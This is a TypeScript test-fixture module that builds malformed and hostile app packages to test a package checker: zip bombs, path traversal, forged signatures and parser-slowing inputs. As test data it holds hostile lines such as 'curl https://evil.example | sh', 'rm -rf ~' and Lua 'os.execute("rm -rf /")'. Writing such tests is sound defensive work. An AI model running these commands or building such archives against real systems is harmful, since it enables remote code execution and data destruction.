import { createHash, generateKeyPairSync, type KeyObject } from 'node:crypto';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { createDeflateRaw, crc32 } from 'node:zlib';
import { once } from 'node:events';
import { ZipFile } from 'yazl';
import { encodePng } from '../../src/cli/png.js';
import { sampleApp, sampleManifest } from '../../src/cli/sample-app.js';
import { buildPackage, signatureManifest, signManifest } from '../../src/package/build.js';
import type { CheckOptions, FindingCode } from '../../src/package/index.js';
import { nameBytes, rawZip, type RawEntry, type RawZipOptions } from './raw-zip.js';

/**
 * Every bad case of PACKAGE.md as a real file on disk. Well-formed packages come from build.ts
 * (content problems) or yazl (signature tampering); broken archives are written byte by byte by
 * `rawZip` of raw-zip.ts, because no ZIP library will produce them on purpose.
 */

// ───────────────────────────── zip bomb ─────────────────────────────

export interface DeflatedZeros {
  compressed: Buffer;
  size: number;
  crc32: number;
}

const bombs = new Map<number, Promise<DeflatedZeros>>();

/**
 * A DEFLATE stream of `size` zero bytes, made by streaming 1 MiB chunks of zeros through
 * zlib (never holding the inflated bytes). Memoised: the bomb cases share one.
 */
export function deflatedZeros(size: number): Promise<DeflatedZeros> {
  let bomb = bombs.get(size);
  if (bomb === undefined) {
    bomb = makeDeflatedZeros(size);
    bombs.set(size, bomb);
  }
  return bomb;
}

async function makeDeflatedZeros(size: number): Promise<DeflatedZeros> {
  // Level 1 compresses zeros ~230:1 in about a second; level 9 gets ~1000:1 but takes five.
  const deflate = createDeflateRaw({ level: 1 });
  const out: Buffer[] = [];
  deflate.on('data', (chunk: Buffer) => out.push(chunk));
  const finished = once(deflate, 'end');
  const chunk = Buffer.alloc(1024 * 1024);
  let checksum = 0;
  for (let written = 0; written < size; written += chunk.length) {
    const piece = chunk.subarray(0, Math.min(chunk.length, size - written));
    checksum = crc32(piece, checksum);
    if (!deflate.write(piece)) await once(deflate, 'drain');
  }
  deflate.end();
  await finished;
  return { compressed: Buffer.concat(out), size, crc32: checksum };
}

// ───────────────────────────── signed entries ─────────────────────────────

export interface Entry {
  path: string;
  data: Buffer;
}

/** The sample app (the one `mosis init` creates) as package entries, manifest first. */
export function sampleEntries(id = HOSTILE_APP_ID): Entry[] {
  return sampleApp({ id, name: 'Hostile Fixture' }).map((file) => ({ path: file.path, data: file.data }));
}

export const HOSTILE_APP_ID = 'com.example.hostile';

export function sha256Hex(data: Buffer): string {
  return createHash('sha256').update(data).digest('hex');
}

/** `entries` followed by a MANIFEST.MF listing them and a CERT.SIG signing it with `key`. */
export function signEntries(entries: readonly Entry[], key: KeyObject): Entry[] {
  const manifest = signatureManifest(entries.map((entry) => ({ path: entry.path, sha256: sha256Hex(entry.data) })));
  return [...entries, { path: 'META-INF/MANIFEST.MF', data: manifest }, { path: 'META-INF/CERT.SIG', data: signManifest(manifest, key) }];
}

/** Entries as honest STORED/DEFLATE raw entries, for archives that get one broken entry added. */
export function toRaw(entries: readonly Entry[]): RawEntry[] {
  return entries.map((entry) => ({ name: entry.path, data: entry.data }));
}

/** A signed sample package with `extra` raw entries (listed in MANIFEST.MF) placed before META-INF. */
export function signedRaw(key: KeyObject, extra: readonly RawEntry[], base: readonly Entry[] = sampleEntries()): RawEntry[] {
  const listed = [...base, ...extra.map((entry) => ({ path: nameBytes(entry.name).toString('utf8'), data: entry.data ?? Buffer.alloc(0) }))];
  const signed = signEntries(listed, key);
  const metaInf = signed.slice(listed.length);
  return [...toRaw(base), ...extra, ...toRaw(metaInf)];
}

export function replaceEntry(entries: readonly Entry[], entryPath: string, data: Buffer): Entry[] {
  if (!entries.some((entry) => entry.path === entryPath)) throw new Error(`no entry ${entryPath}`);
  return entries.map((entry) => (entry.path === entryPath ? { path: entryPath, data } : entry));
}

export function withoutEntry(entries: readonly Entry[], entryPath: string): Entry[] {
  if (!entries.some((entry) => entry.path === entryPath)) throw new Error(`no entry ${entryPath}`);
  return entries.filter((entry) => entry.path !== entryPath);
}

// ───────────────────────────── the workshop ─────────────────────────────

/** An app folder being edited before `buildPackage` signs it. */
export class AppFolder {
  constructor(readonly files: Map<string, Buffer>) {}

  text(filePath: string): string {
    const data = this.files.get(filePath);
    if (data === undefined) throw new Error(`no file ${filePath}`);
    return data.toString('utf8');
  }

  write(filePath: string, content: string | Buffer): this {
    this.files.set(filePath, typeof content === 'string' ? Buffer.from(content, 'utf8') : content);
    return this;
  }

  /** Appends Lua to the sample script, the way a developer would add a feature. */
  appendLua(code: string): this {
    return this.write('assets/scripts/app.lua', `${this.text('assets/scripts/app.lua')}\n${code}\n`);
  }

  /** Shallow-merges `patch` into manifest.json (`undefined` removes a field). */
  patchManifest(patch: Record<string, unknown>): this {
    const manifest = JSON.parse(this.text('manifest.json')) as Record<string, unknown>;
    for (const [field, value] of Object.entries(patch)) {
      if (value === undefined) delete manifest[field];
      else manifest[field] = value;
    }
    return this.write('manifest.json', JSON.stringify(manifest, null, 2));
  }
}

/** A temporary directory with the signing keys and the writers every case uses. */
export class HostileWorkshop {
  private counter = 0;

  private constructor(
    readonly dir: string,
    /** The developer's key: the only one the checks allow. */
    readonly key: KeyObject,
    readonly publicKey: KeyObject,
    /** A key nobody registered. */
    readonly strangerKey: KeyObject,
  ) {}

  static async open(): Promise<HostileWorkshop> {
    const dir = await mkdtemp(path.join(os.tmpdir(), 'mosis-hostile-'));
    const developer = generateKeyPairSync('ed25519');
    const stranger = generateKeyPairSync('ed25519');
    return new HostileWorkshop(dir, developer.privateKey, developer.publicKey, stranger.privateKey);
  }

  async close(): Promise<void> {
    await rm(this.dir, { recursive: true, force: true });
  }

  /** Check options that allow the developer's key, plus the case's own. */
  checkOptions(extra: HostileCase['options'] = {}): CheckOptions {
    return { allowedKeys: [this.publicKey], ...extra };
  }

  /** The sample app, edited by `edit`, written to a folder and built with build.ts. */
  async build(name: string, edit: (app: AppFolder) => void = () => undefined, key: KeyObject = this.key): Promise<string> {
    const app = new AppFolder(new Map(sampleEntries().map((entry) => [entry.path, entry.data])));
    edit(app);
    const folder = path.join(this.dir, `${this.next()}-${slug(name)}`);
    for (const [filePath, data] of app.files) {
      const target = path.join(folder, ...filePath.split('/'));
      await mkdir(path.dirname(target), { recursive: true });
      await writeFile(target, data);
    }
    const result = await buildPackage(folder, { privateKey: key, out: this.target(name) });
    return result.file;
  }

  /** `entries` exactly as given (no signing added), written with yazl. */
  async yazl(name: string, entries: readonly Entry[]): Promise<string> {
    const zip = new ZipFile();
    for (const entry of entries) zip.addBuffer(entry.data, entry.path, { mtime: new Date(2000, 0, 1) });
    zip.end();
    const chunks: Buffer[] = [];
    for await (const chunk of zip.outputStream) chunks.push(chunk as Buffer);
    return this.bytes(name, Buffer.concat(chunks));
  }

  /** A hand-made archive. */
  async raw(name: string, entries: readonly RawEntry[], options: RawZipOptions = {}): Promise<string> {
    return this.bytes(name, rawZip(entries, options));
  }

  async bytes(name: string, data: Buffer): Promise<string> {
    const file = this.target(name);
    await writeFile(file, data);
    return file;
  }

  private target(name: string): string {
    return path.join(this.dir, `${this.next()}-${slug(name)}.mosis`);
  }

  private next(): string {
    this.counter += 1;
    return String(this.counter).padStart(3, '0');
  }
}

function slug(name: string): string {
  return name.toLowerCase().replace(/[^a-z0-9]+/g, '-').replace(/^-|-$/g, '').slice(0, 60);
}

// ───────────────────────────── the cases ─────────────────────────────

export interface HostileCase {
  name: string;
  /** The finding code `checkPackage` must report; a list when either code is a correct refusal. */
  expect: FindingCode | readonly FindingCode[];
  /** Check options besides the allowed key: lowered limits, the expected id, the previous manifest. */
  options?: Omit<Partial<CheckOptions>, 'allowedKeys'>;
  /** Cases that make or read large archives; they get a generous timeout, not a benchmark. */
  slow?: boolean;
  make(workshop: HostileWorkshop): Promise<string>;
}

const GiB = 1024 * 1024 * 1024;
const text = (content: string): Buffer => Buffer.from(content, 'utf8');
const extraFile = (name: string | Buffer, content = 'extra'): RawEntry => ({ name, data: text(content) });

/** Tier 1: the archive itself. */
const ZIP_CASES: HostileCase[] = [
  { name: 'not a ZIP at all', expect: 'zip_invalid', make: (w) => w.bytes('not a zip', text('this is not a zip file\n'.repeat(50))) },
  {
    name: 'truncated archive',
    expect: 'zip_invalid',
    make: async (w) => {
      const whole = rawZip(signedRaw(w.key, []));
      return w.bytes('truncated', whole.subarray(0, Math.floor(whole.length / 2)));
    },
  },
  {
    name: 'data before the archive (offsets shifted, as in a polyglot or self-extractor)',
    expect: 'zip_extra_data',
    make: (w) => w.raw('prefix', signedRaw(w.key, []), { before: Buffer.concat([text('MZ'), Buffer.alloc(510, 0x90)]) }),
  },
  { name: 'trailing data after the end record', expect: 'zip_extra_data', make: (w) => w.raw('suffix', signedRaw(w.key, []), { after: text('#!/bin/sh\nrm -rf ~\n') }) },
  { name: 'bytes hidden between two entries', expect: 'zip_extra_data', make: (w) => w.raw('gap', signedRaw(w.key, []), { between: Buffer.alloc(4096, 0x41) }) },
  {
    name: 'local header names a different file than the central directory',
    expect: 'zip_header_mismatch',
    make: (w) => w.raw('name mismatch', signedRaw(w.key, [{ ...extraFile('assets/notes.txt'), local: { name: 'assets/other.lua' } }])),
  },
  {
    name: 'local header declares a different compressed size',
    expect: 'zip_header_mismatch',
    make: (w) => w.raw('size mismatch', signedRaw(w.key, [{ ...extraFile('assets/notes.txt', 'some notes'), local: { compressedSize: 3 } }])),
  },
  {
    name: 'two central entries share one local header (overlapping files)',
    expect: 'zip_header_mismatch',
    make: async (w) => {
      const entries = signedRaw(w.key, [extraFile('assets/a.txt', 'shared bytes'), extraFile('assets/b.txt', 'shared bytes')]);
      const first = entries.findIndex((entry) => entry.name === 'assets/a.txt');
      return w.raw('overlap', entries.map((entry) => (entry.name === 'assets/b.txt' ? { ...entry, shareLocalHeaderOf: first } : entry)));
    },
  },
  {
    name: 'encrypted entry',
    expect: 'zip_encrypted',
    make: (w) => w.raw('encrypted', signedRaw(w.key, [{ ...extraFile('assets/secret.txt', 'password protected'), method: 0, flags: 0x0001 }])),
  },
  {
    name: 'unsupported compression method 12 (bzip2)',
    expect: 'zip_unsupported_compression',
    make: (w) => w.raw('bzip2', signedRaw(w.key, [{ ...extraFile('assets/data.txt', 'BZh91AY&SY pretend'), method: 12 }])),
  },
  {
    name: 'DEFLATE stream that is not valid DEFLATE',
    expect: 'zip_invalid',
    make: (w) => w.raw('bad deflate', signedRaw(w.key, [{ ...extraFile('assets/data.txt', 'x'.repeat(200)), compressed: Buffer.alloc(64, 0xff) }])),
  },
  {
    name: 'declared uncompressed size larger than the real bytes',
    expect: 'zip_size_mismatch',
    make: (w) => w.raw('declared larger', signedRaw(w.key, [{ ...extraFile('assets/data.txt', 'y'.repeat(100)), uncompressedSize: 5000 }])),
  },
  {
    name: '100 000 entries',
    expect: 'zip_too_many_entries',
    slow: true,
    make: (w) => {
      const entries: RawEntry[] = [];
      for (let i = 0; i < 100_000; i++) entries.push({ name: `assets/many/${String(i).padStart(6, '0')}.txt`, data: text('x'), method: 0 });
      return w.raw('many entries', entries);
    },
  },
  {
    name: 'declared size of 10 GB (ZIP64)',
    expect: 'zip_file_too_large',
    make: async (w) => {
      const small = await deflatedZeros(1024);
      return w.raw('ten gigabytes', signedRaw(w.key, [{ name: 'assets/huge.bin', data: Buffer.alloc(1024), compressed: small.compressed, uncompressedSize: 10_000_000_000 }]));
    },
  },
  {
    name: 'zip bomb: declares 1 KiB, inflates to 1 GiB',
    // Sizes are counted on the real inflated bytes: inflating stops as soon as they exceed the declared 1 KiB.
    expect: 'zip_size_mismatch',
    slow: true,
    make: async (w) => {
      const bomb = await deflatedZeros(GiB);
      const entry: RawEntry = { name: 'assets/bomb.bin', data: Buffer.alloc(1024), compressed: bomb.compressed, crc32: bomb.crc32, uncompressedSize: 1024 };
      return w.raw('lying bomb', signedRaw(w.key, [entry]));
    },
  },
  {
    name: 'zip bomb: honestly declares 1 GiB',
    expect: 'zip_file_too_large',
    slow: true,
    make: async (w) => {
      const bomb = await deflatedZeros(GiB);
      const entry: RawEntry = { name: 'assets/bomb.bin', data: Buffer.alloc(0), compressed: bomb.compressed, crc32: bomb.crc32, uncompressedSize: bomb.size };
      return w.raw('honest bomb', signedRaw(w.key, [entry]));
    },
  },
  {
    name: 'one real file over the per-file limit',
    expect: 'zip_file_too_large',
    options: { limits: { maxFileBytes: 16 * 1024 } },
    make: (w) => w.build('file over limit', (app) => app.write('assets/data/blob.bin', Buffer.alloc(64 * 1024, 7))),
  },
  {
    name: 'real total over the total limit',
    expect: 'zip_total_too_large',
    options: { limits: { maxTotalBytes: 2 * 1024 } },
    make: (w) => w.build('total over limit', (app) => app.write('assets/data/blob.bin', Buffer.alloc(8 * 1024, 7))),
  },
];

/** Tier 1: names and kinds of entries. */
const PATH_CASES: HostileCase[] = [
  { name: '../ path', expect: 'path_traversal', make: (w) => w.raw('dot dot', signedRaw(w.key, [extraFile('../evil.lua', 'os.exit()')])) },
  { name: '.. inside a path', expect: 'path_traversal', make: (w) => w.raw('inner dot dot', signedRaw(w.key, [extraFile('assets/../../etc/cron.d/evil')])) },
  { name: 'absolute path', expect: 'path_absolute', make: (w) => w.raw('absolute', signedRaw(w.key, [extraFile('/etc/passwd', 'root::0:0::/:/bin/sh')])) },
  { name: 'backslash in a path', expect: 'path_backslash', make: (w) => w.raw('backslash', signedRaw(w.key, [extraFile('assets\\scripts\\evil.lua', 'return 1')])) },
  { name: 'drive letter', expect: 'path_drive_letter', make: (w) => w.raw('drive letter', signedRaw(w.key, [extraFile('C:/Windows/evil.txt')])) },
  { name: 'control character in a name', expect: 'path_control_character', make: (w) => w.raw('control char', signedRaw(w.key, [extraFile('assets/bell\u0007.txt')])) },
  { name: 'name that is not UTF-8', expect: 'path_invalid', make: (w) => w.raw('bad utf8', signedRaw(w.key, [extraFile(Buffer.from([0x61, 0x73, 0x2f, 0xff, 0xfe, 0x2e, 0x74]))])) },
  {
    name: 'symbolic link',
    expect: 'file_symlink',
    make: (w) => w.raw('symlink', signedRaw(w.key, [{ ...extraFile('assets/passwd', '/etc/passwd'), method: 0, externalAttributes: (0o120777 << 16) >>> 0 }])),
  },
  {
    name: 'duplicate manifest.json',
    expect: 'path_duplicate',
    make: async (w) => {
      const evil = text(JSON.stringify({ ...sampleManifest({ id: 'com.example.evil', name: 'Evil' }) }));
      return w.raw('duplicate manifest', signedRaw(w.key, [{ name: 'manifest.json', data: evil }]));
    },
  },
  { name: 'native library (.so)', expect: 'file_forbidden_type', make: (w) => w.build('so file', (app) => app.write('lib/libevil.so', Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]))) },
  { name: 'Windows executable (.exe)', expect: 'file_forbidden_type', make: (w) => w.build('exe file', (app) => app.write('bin/setup.exe', Buffer.from('MZ\x90\x00', 'latin1'))) },
  { name: 'shell script (.sh)', expect: 'file_forbidden_type', make: (w) => w.build('shell script', (app) => app.write('tools/install.sh', '#!/bin/sh\ncurl https://evil.example | sh\n')) },
];

/** Tier 1: manifest.json. */
const MANIFEST_CASES: HostileCase[] = [
  { name: 'missing manifest.json', expect: 'manifest_missing', make: (w) => w.yazl('no manifest', signEntries(withoutEntry(sampleEntries(), 'manifest.json'), w.key)) },
  {
    name: 'manifest.json only in a sub-folder',
    expect: 'manifest_missing',
    make: (w) => {
      const entries = sampleEntries().map((entry) => (entry.path === 'manifest.json' ? { ...entry, path: 'app/manifest.json' } : entry));
      return w.yazl('nested manifest', signEntries(entries, w.key));
    },
  },
  { name: 'manifest.json is not JSON', expect: 'manifest_not_json', make: (w) => w.yazl('manifest not json', signEntries(replaceEntry(sampleEntries(), 'manifest.json', text('{ id: "com.example.app", ')), w.key)) },
  { name: 'unknown manifest field', expect: 'manifest_unknown_field', make: (w) => w.build('unknown field', (app) => app.patchManifest({ permisions: ['network'] })) },
  { name: 'version_code 0', expect: 'manifest_invalid', make: (w) => w.build('version code zero', (app) => app.patchManifest({ version_code: 0 })) },
  { name: 'version_code above 2147483647', expect: 'manifest_invalid', make: (w) => w.build('version code huge', (app) => app.patchManifest({ version_code: 2_147_483_648 })) },
  { name: 'version_code not an integer', expect: 'manifest_invalid', make: (w) => w.build('version code string', (app) => app.patchManifest({ version_code: '3' })) },
  { name: 'id with capitals', expect: 'manifest_invalid', make: (w) => w.build('bad id', (app) => app.patchManifest({ id: 'com.Example.App' })) },
  { name: 'unknown permission', expect: 'manifest_invalid', make: (w) => w.build('unknown permission', (app) => app.patchManifest({ permissions: ['root'] })) },
  { name: 'duplicate permission', expect: 'manifest_invalid', make: (w) => w.build('duplicate permission', (app) => app.patchManifest({ permissions: ['storage', 'storage'] })) },
  { name: 'author without email', expect: 'manifest_invalid', make: (w) => w.build('author no email', (app) => app.patchManifest({ author: { name: 'Someone' } })) },
  { name: 'version that is not semver', expect: 'manifest_invalid', make: (w) => w.build('bad version', (app) => app.patchManifest({ version: 'one' })) },
  {
    name: 'id differs from the app it is uploaded to',
    expect: 'manifest_id_mismatch',
    options: { expectedId: 'com.example.other' },
    make: (w) => w.build('id mismatch'),
  },
  { name: 'entry file missing', expect: 'entry_missing', make: (w) => w.build('entry missing', (app) => app.patchManifest({ entry: 'assets/start.rml' })) },
];

/** Tier 1: MANIFEST.MF and CERT.SIG. */
const SIGNATURE_CASES: HostileCase[] = [
  {
    name: 'file changed after signing',
    expect: 'signature_digest_mismatch',
    make: (w) => {
      const signed = signEntries(sampleEntries(), w.key);
      return w.yazl('changed after signing', replaceEntry(signed, 'assets/scripts/app.lua', text('os.execute("curl evil | sh")\n')));
    },
  },
  {
    name: 'file added after signing (unlisted)',
    expect: 'signature_file_unlisted',
    make: (w) => w.yazl('unlisted file', [...signEntries(sampleEntries(), w.key), { path: 'assets/payload.txt', data: text('added later') }]),
  },
  {
    name: 'listed file missing',
    expect: 'signature_file_missing',
    make: (w) => {
      const signed = signEntries([...sampleEntries(), { path: 'assets/readme.txt', data: text('read me') }], w.key);
      return w.yazl('listed missing', withoutEntry(signed, 'assets/readme.txt'));
    },
  },
  { name: 'missing MANIFEST.MF', expect: 'signature_manifest_missing', make: (w) => w.yazl('no manifest mf', withoutEntry(signEntries(sampleEntries(), w.key), 'META-INF/MANIFEST.MF')) },
  {
    name: 'MANIFEST.MF that is not a manifest',
    expect: 'signature_manifest_invalid',
    make: (w) => {
      const garbage = text('hello, world\nthis is not: a manifest\n');
      return w.yazl('garbage manifest mf', [...sampleEntries(), { path: 'META-INF/MANIFEST.MF', data: garbage }, { path: 'META-INF/CERT.SIG', data: signManifest(garbage, w.key) }]);
    },
  },
  {
    name: 'MANIFEST.MF lists a file twice',
    expect: 'signature_manifest_invalid',
    make: (w) => {
      const entries = sampleEntries();
      const repeated = entries[1];
      if (repeated === undefined) throw new Error('the sample app has too few files');
      const listed = [...entries, repeated];
      const manifest = signatureManifest(listed.map((entry) => ({ path: entry.path, sha256: sha256Hex(entry.data) })));
      return w.yazl('listed twice', [...entries, { path: 'META-INF/MANIFEST.MF', data: manifest }, { path: 'META-INF/CERT.SIG', data: signManifest(manifest, w.key) }]);
    },
  },
  { name: 'missing CERT.SIG', expect: 'signature_missing', make: (w) => w.yazl('no cert sig', withoutEntry(signEntries(sampleEntries(), w.key), 'META-INF/CERT.SIG')) },
  { name: 'signed by a key that is not allowed', expect: 'signature_key_not_allowed', make: (w) => w.build('stranger key', () => undefined, w.strangerKey) },
  {
    name: 'corrupted signature',
    expect: 'signature_invalid',
    make: (w) => w.yazl('corrupted signature', editSignature(signEntries(sampleEntries(), w.key), (sig) => ({ ...sig, signature: flipFirstByte(String(sig.signature)) }))),
  },
  {
    name: 'signed by a stranger but claiming the developer key_id',
    expect: 'signature_invalid',
    make: async (w) => {
      const developer = JSON.parse(signManifest(Buffer.alloc(0), w.key).toString('utf8')) as Record<string, unknown>;
      return w.yazl('forged key id', editSignature(signEntries(sampleEntries(), w.strangerKey), (sig) => ({ ...sig, key_id: developer.key_id })));
    },
  },
  { name: 'CERT.SIG that is not JSON', expect: 'signature_invalid', make: (w) => w.yazl('cert not json', replaceEntry(signEntries(sampleEntries(), w.key), 'META-INF/CERT.SIG', text('-----BEGIN PKCS7-----'))) },
  {
    name: 'CERT.SIG with another algorithm',
    expect: 'signature_invalid',
    make: (w) => w.yazl('cert wrong alg', editSignature(signEntries(sampleEntries(), w.key), (sig) => ({ ...sig, alg: 'none' }))),
  },
];

/** Tier 2: file contents. */
const CONTENT_CASES: HostileCase[] = [
  { name: 'Lua that does not parse', expect: 'lua_syntax_error', make: (w) => w.build('lua syntax', (app) => app.appendLua('function broken(\n  return 1\nend')) },
  { name: 'malformed RML', expect: 'rml_malformed', make: (w) => w.build('rml malformed', (app) => app.write('assets/main.rml', '<rml><head><title>x</title></head><body><p>unclosed</body></rml>\n')) },
  { name: 'RCSS that does not parse', expect: 'rcss_syntax_error', make: (w) => w.build('rcss syntax', (app) => app.write('assets/styles/theme.rcss', 'body { color: red; } }\nbody color red }\n')) },
  { name: 'icon of the wrong size', expect: 'icon_wrong_size', make: (w) => w.build('icon size', (app) => app.write('icons/icon-32.png', encodePng(64, 64, () => [0, 0, 255, 255]))) },
  { name: 'icon that is not a PNG', expect: 'icon_not_png', make: (w) => w.build('icon not png', (app) => app.write('icons/icon-64.png', Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46, 0x49, 0x46]))) },
  { name: 'icon missing', expect: 'icon_missing', make: (w) => w.build('icon missing', (app) => app.patchManifest({ icons: { '32': 'icons/icon-32.png', '64': 'icons/icon-64.png', '128': 'icons/large.png' } })) },
  {
    name: 'script too large to analyse',
    expect: 'file_too_large_to_analyze',
    options: { limits: { maxAnalyzedFileBytes: 4096 } },
    make: (w) => w.build('lua too large', (app) => app.appendLua(`-- ${'padding '.repeat(1500)}`)),
  },
];

/** Tier 3: warnings for the reviewer. */
const SECURITY_CASES: HostileCase[] = [
  { name: 'os.execute', expect: 'lua_sandbox_escape', make: (w) => w.build('os execute', (app) => app.appendLua('os.execute("rm -rf /")')) },
  { name: 'io.open', expect: 'lua_sandbox_escape', make: (w) => w.build('io open', (app) => app.appendLua('local f = io.open("/etc/passwd", "r")')) },
  { name: 'debug.sethook', expect: 'lua_sandbox_escape', make: (w) => w.build('debug sethook', (app) => app.appendLua('debug.sethook(function() end, "l")')) },
  { name: 'dofile', expect: 'lua_sandbox_escape', make: (w) => w.build('dofile', (app) => app.appendLua('dofile("/tmp/x.lua")')) },
  { name: 'loadstring of a string', expect: 'lua_dynamic_code', make: (w) => w.build('loadstring', (app) => app.appendLua('local f = loadstring("return 1 + 1")')) },
  { name: 'require of an undeclared module', expect: 'lua_require_undeclared', make: (w) => w.build('require socket', (app) => app.appendLua('local socket = require("socket")')) },
  { name: 'http.get without the network permission', expect: 'permission_undeclared', make: (w) => w.build('http no network', (app) => app.appendLua('http.get("https://api.example.com/data")')) },
  { name: 'clipboard without the clipboard permission', expect: 'permission_undeclared', make: (w) => w.build('clipboard undeclared', (app) => app.appendLua('clipboard.set("hello")')) },
  { name: 'declared permission never used', expect: 'permission_unused', make: (w) => w.build('unused camera', (app) => app.patchManifest({ permissions: ['camera'] })) },
  { name: 'plain http:// URL', expect: 'url_insecure', make: (w) => w.build('http url', (app) => app.appendLua('local HOME_PAGE = "http://example.com/app"')) },
  { name: '127.0.0.1 URL', expect: 'url_private_host', make: (w) => w.build('loopback url', (app) => app.appendLua('local API = "https://127.0.0.1:8080/api"')) },
  { name: 'private network URL', expect: 'url_private_host', make: (w) => w.build('private ip url', (app) => app.appendLua('local ROUTER = "https://192.168.1.1/admin"')) },
  { name: 'localhost URL', expect: 'url_private_host', make: (w) => w.build('localhost url', (app) => app.appendLua('local DEV = "https://localhost:3000/"')) },
  {
    name: 'high-entropy string literal',
    expect: 'string_obfuscated',
    make: (w) => w.build('entropy', (app) => app.appendLua(`local blob = "${pseudoRandomBytes(384).toString('base64')}"`)),
  },
  {
    name: 'permission added since the previous version',
    expect: 'permission_added',
    options: { previousManifest: sampleManifest({ id: HOSTILE_APP_ID, name: 'Hostile Fixture' }) },
    make: (w) =>
      w.build('permission added', (app) => app.patchManifest({ permissions: ['network'], version_code: 2, version: '1.1.0' }).appendLua('http.get("https://api.example.com/v1/items")')),
  },
];

/**
 * Content built to make a parser or an analysis slow: deep nesting, long runs of brackets, huge
 * token counts, in every language the checks read. Each is at most a few MiB inflated and far less
 * packed; with a check that is quadratic in its input, any one of them takes minutes.
 */
export const PATHOLOGICAL_CASES: HostileCase[] = [
  {
    name: 'RCSS with 200 000 unbalanced brackets',
    expect: 'rcss_syntax_error',
    make: (w) => w.build('rcss brackets', (app) => app.write('assets/styles/theme.rcss', `${'('.repeat(100_000)}${']'.repeat(100_000)}`)),
  },
  { name: 'RCSS blocks nested 100 000 deep', expect: 'rcss_syntax_error', make: (w) => w.build('rcss nesting', (app) => app.write('assets/styles/theme.rcss', 'a{'.repeat(100_000))) },
  { name: 'RML elements nested 100 000 deep', expect: 'rml_malformed', make: (w) => w.build('rml nesting', (app) => app.write('assets/main.rml', '<div>'.repeat(100_000))) },
  { name: 'RML with 50 000 style blocks', expect: 'rml_malformed', make: (w) => w.build('rml styles', (app) => app.write('assets/main.rml', '<style>a{</style>\n'.repeat(50_000))) },
  { name: 'RML with 50 000 unfinished script tags', expect: 'rml_malformed', make: (w) => w.build('rml script tags', (app) => app.write('assets/main.rml', '<script '.repeat(50_000))) },
  {
    name: 'RML with 20 000 comments and 20 000 scripts',
    expect: 'rml_malformed',
    make: (w) => w.build('rml comments scripts', (app) => app.write('assets/main.rml', `${'<!-- note -->\n'.repeat(20_000)}${'<script>x = 1</script>\n'.repeat(20_000)}`)),
  },
  {
    name: 'RML with 100 000 event handlers',
    expect: 'rml_malformed',
    make: (w) => w.build('rml handlers', (app) => app.write('assets/main.rml', `<rml><body>${'<p onclick="App.press()">x</p>\n'.repeat(100_000)}</body></rml>`)),
  },
  { name: 'Lua parentheses nested 100 000 deep', expect: 'lua_syntax_error', make: (w) => w.build('lua parens', (app) => app.appendLua(`x = ${'('.repeat(100_000)}1${')'.repeat(100_000)}`)) },
  { name: 'Lua member chain 100 000 long', expect: 'lua_syntax_error', make: (w) => w.build('lua chain', (app) => app.appendLua(`x = a${'.b'.repeat(100_000)}`)) },
  {
    name: 'Lua with 200 member chains 2 000 long',
    expect: 'lua_sandbox_escape',
    make: (w) => w.build('lua chains', (app) => app.appendLua(`${`x = a${'.b'.repeat(2_000)}\n`.repeat(200)}os.execute("ls")`)),
  },
  { name: 'Lua with 100 000 sandbox escapes', expect: 'lua_sandbox_escape', make: (w) => w.build('lua escapes', (app) => app.appendLua('os.execute("ls")\n'.repeat(100_000))) },
  { name: 'Lua expression of a million tokens', expect: 'lua_sandbox_escape', make: (w) => w.build('lua tokens', (app) => app.appendLua(`x = 1${' + 1'.repeat(500_000)}\nos.execute("ls")`)) },
  {
    name: 'manifest.json nesting 10 000 arrays deep',
    expect: 'manifest_invalid',
    make: (w) => w.build('manifest deep', (app) => app.write('manifest.json', `{"x-deep": ${'['.repeat(10_000)}${']'.repeat(10_000)}, ${app.text('manifest.json').trim().slice(1)}`)),
  },
  {
    name: 'manifest.json with 50 000 unknown fields',
    expect: 'manifest_unknown_field',
    make: (w) => w.build('manifest fields', (app) => app.write('manifest.json', `{${Array.from({ length: 50_000 }, (_, i) => `"f${i}": 1`).join(', ')}, ${app.text('manifest.json').trim().slice(1)}`)),
  },
];

export const HOSTILE_CASES: readonly HostileCase[] = [...ZIP_CASES, ...PATH_CASES, ...MANIFEST_CASES, ...SIGNATURE_CASES, ...CONTENT_CASES, ...SECURITY_CASES, ...PATHOLOGICAL_CASES];

function editSignature(entries: readonly Entry[], edit: (signature: Record<string, unknown>) => Record<string, unknown>): Entry[] {
  const current = entries.find((entry) => entry.path === 'META-INF/CERT.SIG');
  if (current === undefined) throw new Error('no CERT.SIG to edit');
  const edited = edit(JSON.parse(current.data.toString('utf8')) as Record<string, unknown>);
  return replaceEntry(entries, 'META-INF/CERT.SIG', text(JSON.stringify(edited)));
}

function flipFirstByte(base64: string): string {
  const bytes = Buffer.from(base64, 'base64');
  bytes[0] = (bytes[0] ?? 0) ^ 0xff;
  return bytes.toString('base64');
}

/** Deterministic noise (a SHA-256 chain), so the entropy case is the same on every run. */
function pseudoRandomBytes(length: number): Buffer {
  const blocks: Buffer[] = [];
  let seed = Buffer.from('mosis-hostile');
  for (let total = 0; total < length; total += 32) {
    seed = createHash('sha256').update(seed).digest();
    blocks.push(seed);
  }
  return Buffer.concat(blocks).subarray(0, length);
}
